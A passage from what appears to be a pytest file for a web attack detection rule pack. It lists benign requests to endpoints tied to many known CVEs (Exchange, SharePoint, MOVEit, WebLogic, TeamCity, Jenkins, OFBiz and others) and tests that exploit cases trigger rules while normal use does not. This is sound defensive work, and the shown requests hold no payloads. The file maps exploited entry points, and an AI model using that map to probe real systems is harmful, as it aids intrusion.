    ("CVE-2022-41080", "/owa/shared%40example.com/", "GET", [], b""),
    ("CVE-2022-41080", "/powershell?serializationLevel=Full;ExchClientVer=15.1", "POST",
     [("Content-Type", "application/soap+xml;charset=UTF-8")], b"<s:Envelope/>"),
    ("CVE-2020-0688", "/ecp/default.aspx", "POST", FORM, b"__VIEWSTATE=%2FwEPDwULLTE2&__VIEWSTATEGENERATOR=B97B4E27"),
    ("CVE-2025-53770", "/sites/hr/_layouts/15/ToolPane.aspx?DisplayMode=Edit&ToolPaneView=2", "GET",
     [("Referer", "https://sp.example.com/sites/hr/SitePages/Home.aspx")], b""),
    ("CVE-2025-53770", "/_layouts/15/SignOut.aspx", "GET", [("Referer", "https://sp.example.com/_layouts/15/ToolPane.aspx")],
     b""),
    ("CVE-2025-53770-b", "/_layouts/15/start.aspx", "GET", [], b""),
    ("CVE-2025-53770-c", "/sites/hr/_layouts/15/ToolPane.aspx?DisplayMode=Edit", "POST", FORM,
     b"MSOTlPn_Uri=http%3A%2F%2Fsp%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP=%3CWebPart+xmlns%3D%22"
     b"http%3A%2F%2Fschemas.microsoft.com%2FWebPart%2Fv2%22%3E%3CTitle%3ENews%3C%2FTitle%3E%3C%2FWebPart%3E"),
    ("CVE-2023-34362", "/moveitisapi/moveitisapi.dll?action=m2", "POST", [("X-siLock-Transaction", "folder_add_by_path"),
                                                                         ("X-siLock-FolderType", "0")], b""),
    ("CVE-2023-34362-b", "/moveitisapi/moveitisapi.dll?action=m2", "POST",
     [("X-siLock-Transaction", "folder_add_by_path"), ("X-siLock-Username", "jsmith")], b""),
    ("CVE-2023-34362-c", "/human.aspx", "POST", FORM, b"transaction=signon&fromsignon=1&Username=jsmith&Password=x"),
    ("CVE-2023-0669", "/goanywhere/auth/Login.xhtml", "POST", FORM,
     b"formPanel%3AloginGrid%3Aname=admin&formPanel%3AloginGrid%3Avalue=secret"),
    ("CVE-2024-4040", "/WebInterface/function/", "POST", FORM,
     b"command=getXMLListing&format=JSONOBJ&path=%2Freports%2F&random=0.1&c2f=c2f1"),
    ("CVE-2025-31161", "/WebInterface/function/", "POST", FORM + [("Cookie", "CrushAuth=1743113839553_ab; currentAuth=ab")],
     b"command=login&username=alice&password=secret&encoded=true&language=en&random=0.34"),
    ("CVE-2025-31161", "/WebInterface/bucket/file.txt", "GET",
     [("Authorization", "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20250401/us-east-1/s3/aws4_request, "
                        "SignedHeaders=host;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027")], b""),
    ("CVE-2024-50623", "/Synchronization", "GET",
     [("VLSync", "Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=5080;s=True;b=False;pp=xyz;path=hosts/main.xml")],
     b""),
    ("CVE-2025-47812", "/loginok.html", "POST", FORM, b"username=alice&password=secret&username_val=alice&password_val=x"),
    ("CVE-2020-14882", "/console/login/LoginForm.jsp", "GET", [], b""),
    ("CVE-2020-14883", "/console/console.portal?_nfpb=true&_pageLabel=CoreServerServerTablePage&handle="
     "com.bea.console.handles.JMXHandle%28%22com.bea%3AName%3Dbase_domain%2CType%3DDomain%22%29", "GET", [], b""),
    ("CVE-2017-10271", "/wls-wsat/CoordinatorPortType", "POST", XML,
     _soap('<wsat:Prepared xmlns:wsat="http://schemas.xmlsoap.org/ws/2004/10/wsat"/>')),
    ("CVE-2019-2725", "/_async/AsyncResponseService", "POST", XML,
     _soap('<ns:onAsyncDelivery xmlns:ns="http://www.bea.com/async/AsyncResponseService"><ns:msg>ok</ns:msg>'
           '</ns:onAsyncDelivery>')),
    ("CVE-2025-61882", "/OA_HTML/configurator/UiServlet", "POST", FORM,
     b"getUiType=%3Cinitialize%3E%3Cparam+name%3D%22ui_type%22%3EJRAD%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3E"
     b"https%3A%2F%2Febs.example.com%2FOA_HTML%2FOA.jsp%3Fpage%3Dx%3C%2Fparam%3E%3C%2Finitialize%3E"),
    ("CVE-2022-21587", "/OA_HTML/BneViewerXMLService?bne:page=BneCreateDoc&bne:integrator=1", "GET", [], b""),
    ("CVE-2025-31324", "/developmentserver/index.html", "GET", [], b""),
    ("CVE-2025-31324-b", "/irj/portal", "GET", [], b""),
    ("CVE-2020-6287", "/CTCWebServiceSi/x", "GET", [], b""),
    ("CVE-2023-42793", "/app/rest/users/id:1/tokens", "GET", [("Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.abc")], b""),
    ("CVE-2023-42793-b", "/admin/dataDir.html?action=edit&fileName=config%2Finternal.properties"
     "&content=teamcity.ui.experimental%3Dtrue", "POST", [], b""),
    ("CVE-2024-27198", "/login.html?jsp=/login.jsp", "GET", [], b""),
    ("CVE-2024-27198", "/app/rest/server", "GET", [("Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.abc")], b""),
    ("CVE-2024-23897", "/cli?remoting=false", "POST", [("Session", "abc"), ("Side", "upload"),
                                                       ("Content-Type", "application/octet-stream")], _CLI_NORMAL),
    ("CVE-2018-1000861", "/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile"
     "?value=node+%7B+sh+%27make%27+%7D", "POST", [("Jenkins-Crumb", "abc")], b""),
    ("CVE-2018-1000861", "/securityRealm/user/admin/", "GET", [], b""),
    ("CVE-2023-7028", "/users/password", "POST", FORM, b"authenticity_token=abc&user%5Bemail%5D=jsmith%40example.com"),
    ("CVE-2024-32113", "/webtools/control/main;jsessionid=0F1E2D3C4B5A.jvm1", "GET", [], b""),
    ("CVE-2024-38856", "/webtools/control/ProgramExport", "POST", FORM + [("Cookie", "JSESSIONID=ABC.jvm1")],
     b"groovyProgram=println+1"),
    ("CVE-2024-45195", "/webtools/control/viewdatafile", "GET", [("Cookie", "JSESSIONID=ABC.jvm1")], b""),
    ("CVE-2020-9496", "/webtools/control/xmlrpc", "POST", XML,
     b'<?xml version="1.0"?><methodCall><methodName>getProductList</methodName><params><param><value><string>WG-1111'
     b'</string></value></param></params></methodCall>'),
    ("CVE-2022-22947", "/actuator/gateway/routes/limited", "POST", JSON,
     b'{"id":"limited","predicates":[{"name":"Path","args":{"_genkey_0":"/api/**"}}],"filters":[{"name":'
     b'"RequestRateLimiter","args":{"key-resolver":"#{@userKeyResolver}"}}],"uri":"lb://api"}'),
    ("CVE-2022-22963", "/functionRouter", "POST",
     [("spring.cloud.function.routing-expression", "headers['type'] == 'upper' ? 'uppercase' : 'echo'"),
      ("Content-Type", "text/plain")], b"hello"),
    ("CVE-2019-17558", "/solr/demo/select?q=*:*&wt=velocity&v.template=browse&v.layout=layout", "GET", [], b""),
    ("CVE-2019-17558-b", "/solr/demo/config", "POST", JSON,
     b'{"set-property":{"updateHandler.autoCommit.maxTime":15000}}'),
    ("CVE-2021-25646", "/druid/indexer/v1/sampler?for=connect", "POST", JSON,
     b'{"type":"index","spec":{"ioConfig":{"type":"index","inputSource":{"type":"http","uris":["https://example.com/w.json"'
     b']},"inputFormat":{"type":"json"}},"dataSchema":{"dataSource":"wiki","timestampSpec":{"column":"ts"}}},'
     b'"samplerConfig":{"numRows":500}}'),
    ("CVE-2019-9621", "/service/proxy?target=https://feeds.example.com/rss.xml", "GET", [], b""),
    ("CVE-2021-40539", "/RestAPI/LogonCustomization", "POST", FORM, b"methodToCall=unspecified&Save=yes&form=smartcard"),
    ("CVE-2024-4879", "/login.do?jvar_page_title=Sign+in", "GET", [], b""),
    ("CVE-2020-10148", "/Orion/js/i18n.ashx?l=en-US&v=43005.1", "GET", [], b""),
    ("CVE-2024-28987", "/helpdesk/WebObjects/Helpdesk.woa/ra/Tickets/", "GET",
     [("Authorization", "Basic amFuZS5kb2U6UzNjdXJlIVBhc3N3b3Jk")], b""),
    ("CVE-2019-18935", "/Telerik.Web.UI.WebResource.axd?type=rau", "POST", *_TELERIK_NORMAL),
    ("CVE-2024-4358", "/Account/Login", "POST", FORM, b"Username=admin&Password=x"),
    ("CVE-2024-4358", "/Startup/Register", "GET", [], b""),
    ("CVE-2021-42237", "/sitecore/shell/Applications/Content%20Editor.aspx", "GET", [], b""),
    ("CVE-2025-53690", "/sitecore/login", "POST", FORM, b"__VIEWSTATE=%2FwEPDwUJ&UserName=admin&Password=b"),
    ("CVE-2023-23752", "/api/index.php/v1/content/articles?page[limit]=20", "GET",
     [("Authorization", "Bearer c2hhMjU2OjQ6YWJj")], b""),
    ("CVE-2020-25213", "/wp-admin/admin-ajax.php", "POST", FORM,
     b"action=mk_file_folder_manager&_wpnonce=abc&cmd=open&target=l1_Lw&networkId=1"),
    ("CVE-2019-9978", "/wp-admin/admin-post.php?action=swp_cache_rebuild", "GET", [], b""),
    ("CVE-2025-32432", "/index.php?p=admin/actions/assets/generate-transform", "POST", JSON,
     b'{"assetId":11,"handle":{"width":300,"height":200,"mode":"crop","position":"center-center"}}'),
    ("CVE-2024-34102", "/rest/V1/guest-carts/1/estimate-shipping-methods", "POST", JSON,
     b'{"address":{"street":["1 Main St"],"city":"Austin","region_id":57,"postcode":"78701","country_id":"US",'
     b'"telephone":"5125550100","firstname":"Ann","lastname":"Lee"}}'),
    ("CVE-2025-54236", "/rest/default/V1/guest-carts/abc/order", "PUT", JSON,
     b'{"paymentMethod":{"method":"checkmo","po_number":null,"additional_data":{}}}'),
    ("CVE-2019-16759", "/index.php?routestring=ajax/render/widget_activitystream", "POST", FORM,
     b"widgetid=5&pagenum=2"),
    ("CVE-2019-16759-b", "/ajax/render/widget_activitystream", "POST", FORM, b"widgetid=5&pagenum=2"),
    ("CVE-2020-7961", "/api/jsonws/invoke", "POST", FORM,
     b"cmd=%7B%22%2Fuser%2Fget-user-by-id%22%3A%7B%22userId%22%3A20123%7D%7D&p_auth=o3lt8q1F"),
    ("CVE-2023-32315", "/setup/setup-s/index.jsp", "GET", [], b""),
    ("CVE-2023-27350", "/app?service=page/UserSummary", "GET", [], b""),
    ("CVE-2024-1709", "/SetupWizard.aspx", "GET", [], b""),
    ("CVE-2023-29300", "/CFIDE/adminapi/administrator.cfc?method=login", "POST", FORM,
     b"argumentCollection=%3CwddxPacket+version%3D%271.0%27%3E%3Cheader%2F%3E%3Cdata%3E%3Cstruct%3E%3Cvar+name%3D"
     b"%27adminPassword%27%3E%3Cstring%3Ex%3C%2Fstring%3E%3C%2Fvar%3E%3C%2Fstruct%3E%3C%2Fdata%3E%3C%2FwddxPacket%3E"),
    ("CVE-2023-26360", "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash", "POST",
     FORM, b"inPassword=foo"),
    ("CVE-2025-24893", "/xwiki/bin/get/Main/SolrSearch?media=rss&text=release+notes", "GET", [], b""),
    ("CVE-2019-7609", "/api/timelion/run", "POST", JSON + [("kbn-version", "6.5.4")],
     b'{"sheet":[".es(index=logs-*, metric=avg:bytes).label(\'avg bytes\')"],"time":{"from":"now-15m","to":"now"}}'),
    # stop 20
    ("CVE-2025-61882-b", "/OA_HTML/configurator/UiServlet", "POST", FORM,
     b"getUiType=%3Cinitialize%3E%3Cparam+name%3D%22return_url%22%3E%2FOA_HTML%2FOA.jsp%3C%2Fparam%3E%3C%2Finitialize%3E"),
    ("CVE-2021-44077", "/RestAPI/ImportTechnicians?step=1", "POST", *_mp(("theFile", "technicians.csv", b"name,email\n"))),
    ("CVE-2021-44077-b", "/RestAPI/s247action?execute=getAgentStatus", "GET", [], b""),
    ("CVE-2023-41892", "/index.php", "POST", FORM,
     b"action=conditions/render&config=%7B%22name%22%3A%22fieldLayout%22%2C%22elementType%22%3A%22craft%5C%5Celements"
     b"%5C%5CEntry%22%7D"),
]


def _fired(target: str, method: str, headers: list, body: bytes) -> set[str]:
    hits, _ = PACK.apply(req(target, method, headers, body), [])
    return {h.rule for h in hits}


@pytest.mark.parametrize("want,target,method,headers,body", EXPLOITS, ids=[sorted(c[0])[0] for c in EXPLOITS])
def test_exploit_fires_its_rule(want, target, method, headers, body):
    assert _fired(target, method, headers, body) == want


@pytest.mark.parametrize("rid,target,method,headers,body", BENIGN, ids=[c[0] for c in BENIGN])
def test_normal_use_is_quiet(rid, target, method, headers, body):
    assert PACK.apply(req(target, method, headers, body), []) == ([], None)


def test_every_rule_has_an_exploit_and_a_benign_case():
    ids = {r.id for r in PACK.rules}
    assert set().union(*(c[0] for c in EXPLOITS)) == ids
    assert {c[0] for c in BENIGN} == ids
